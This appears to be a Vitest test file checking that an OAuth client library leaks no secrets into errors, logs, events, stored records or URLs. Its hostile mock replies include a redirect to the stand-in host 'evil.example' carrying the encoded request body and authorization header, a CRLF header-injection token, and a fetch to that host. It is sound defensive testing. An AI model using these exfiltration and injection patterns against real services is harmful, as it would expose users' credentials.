import { inspect } from 'node:util'
import { expect, it, onTestFinished, vi } from 'vitest'
import { readParameters } from '../../src/client/consent/callback.ts'
import { respond, json, type Received, type Reply } from '../endpoints/server.ts'
import { canary, spellings } from './canaries.ts'
import { faultyStore } from './faulty-store.ts'
import { connect, withoutJitter, startSetup, minute, startConsent, type Setup } from './setup.ts'

const bodyOf = ({ body, headers }: Received) => `${body} ${headers.authorization ?? ''}`

/** Responses that quote the request, as some servers and proxies do. */
const quotingReplies: Record<string, (access: string, refresh: string) => Reply> = {
  'a valid response': (access_token, refresh_token) =>
    json({
      access_token,
      refresh_token,
      expires_in: 3600,
      api_domain: 'https://www.zohoapis.in',
      status: 'success',
    }),
  'HTML that quotes': () => (response, request) =>
    respond(`<html>${bodyOf(request)}`)(response, request),
  'an error that quotes': () => (response, request) =>
    json({ error: bodyOf(request) })(response, request),
  'a throttle that quotes': () => (response, request) =>
    json({ error: 'Access Denied', error_description: bodyOf(request), status: 'failure' }, 400)(
      response,
      request,
    ),
  'an error with more text': () => (response, request) =>
    json({ error: 'invalid_code', was: bodyOf(request) }, 400)(response, request),
  'a 500 that quotes': () => (response, request) =>
    respond(bodyOf(request), 500)(response, request),
  'a redirect that quotes': () => (response, request) =>
    respond('', 307, { location: `https://evil.example/?${encodeURIComponent(bodyOf(request))}` })(
      response,
      request,
    ),
  'a token with a line break': (access) =>
    json({ access_token: `${access}\r\nx: y`, refresh_token: `${access} `, expires_in: 3600 }),
  'a 401 of the API': () => (response, request) =>
    json({ code: 'INVALID_TOKEN', message: bodyOf(request) }, 401)(response, request),
}

it('O1, O2, T2, B11, R12: no secret is in an error, event, log or URL', async () => {
  const secrets = {
    client: canary('client'),
    access: canary('1000.access'),
    refresh: canary('1000.refresh'),
    code: canary('1000.code'),
    key: Buffer.from(canary('key').slice(0, 27).padEnd(32, 'k')).toString('base64'),
  }
  const printed: string[] = []
  const recordOutput = (...what: unknown[]) => {
    for (const value of what)
      printed.push(
        String(value),
        inspect(value, { showHidden: true, depth: Infinity }),
        JSON.stringify(value) ?? '',
        value instanceof Error ? `${value.message} ${value.stack}` : '',
      )
  }
  for (const method of ['log', 'info', 'warn', 'error', 'debug', 'trace'] as const) {
    const spy = vi.spyOn(console, method).mockImplementation(recordOutput)
    onTestFinished(() => spy.mockRestore())
  }
  const verifiers: string[] = []
  let errors = 0
  const attempt = (work: Promise<unknown>) =>
    work.then(
      () => {},
      (error: unknown) => {
        errors += 1
        recordOutput(error)
      },
    )

  const visit = async (makeReply: (typeof quotingReplies)[string]) => {
    const store = faultyStore()
    const setup: Setup = await startSetup({ store: store.wrap })
    const reply = makeReply(secrets.access, secrets.refresh)
    const options = setup.options({
      clientSecret: [secrets.client, `${secrets.client}former`],
      encryptionKeys: [secrets.key],
      ...withoutJitter,
      onEvent: recordOutput,
      fetch: (url, init) => {
        printed.push(url)
        return fetch(url, init)
      },
    })
    const recordingSetup: Setup = {
      ...setup,
      client: (more) => setup.client({ ...options, ...more }),
      options: (more) => ({ ...options, ...more }),
    }
    const zoho = recordingSetup.client()
    recordOutput(zoho, zoho.connection('acme'))

    const browser = await startConsent(recordingSetup.options(), { id: 'globex', principal: 'ann' })
    verifiers.push((await browser.binding()).codeVerifier)
    setup.script.token = reply
    await attempt(browser.complete({ code: secrets.code }, { id: 'globex', principal: 'ann' }))
    await attempt(browser.complete({ code: secrets.code }, { id: 'globex', principal: 'bob' }))
    await attempt(
      zoho.connection('self').exchangeSelfClientCode(secrets.code, { principal: 'ann' }),
    )
    await attempt(
      zoho.connection('self').exchangeSelfClientCode(`${secrets.code} `, { principal: 'ann' }),
    )
    await attempt((async () => readParameters(`state=${browser.state}&code=${secrets.code}%20`))())

    await connect(recordingSetup, { access_token: secrets.access, refresh_token: secrets.refresh })
    setup.script.token = setup.script.revoke = setup.script.api = reply
    const acme = zoho.connection('acme')
    recordOutput(await acme.status())
    await attempt(acme.fetch('org').then((response) => void recordOutput(response.status)))
    await attempt(acme.fetch('https://evil.example/'))
    setup.time.advance(61 * minute)
    await attempt(acme.accessToken())
    store.faults.write = 'down'
    await attempt(acme.refresh())
    store.faults.write = undefined
    await attempt(
      recordingSetup
        .client({
          fetch: async (url, init) => {
            throw new Error(
              `${url} ${await new Response(init.body).text()} ${JSON.stringify(init.headers)}`,
            )
          },
        })
        .connection('acme')
        .revoke(),
    )
    await attempt(acme.revoke())
    await attempt(acme.accessToken())
    const { record } = await setup.store.read('acme')
    if (record)
      await setup.store.write(
        'acme',
        { ...record, envelope: `${record.envelope}A` },
        record.revision,
      )
    await attempt(recordingSetup.client().connection('acme').status())
    // The store gets no secret in clear, and no request has a secret in its URL.
    printed.push(
      JSON.stringify(await setup.store.read('acme')),
      JSON.stringify(await setup.store.read('globex')),
      ...setup.server.received.map(({ url }) => url),
    )
  }
  await Promise.all(Object.values(quotingReplies).map(visit))

  expect(errors).toBeGreaterThan(40)
  const all = printed.join('\n')
  expect(all).toContain('RecruitOAuthError')
  for (const [name, secret] of [
    ...Object.entries(secrets),
    ...verifiers.map((verifier): [string, string] => ['verifier', verifier]),
  ]) {
    for (const spelling of spellings(secret))
      expect({ name, leaked: all.includes(spelling) }).toEqual({ name, leaked: false })
  }
})
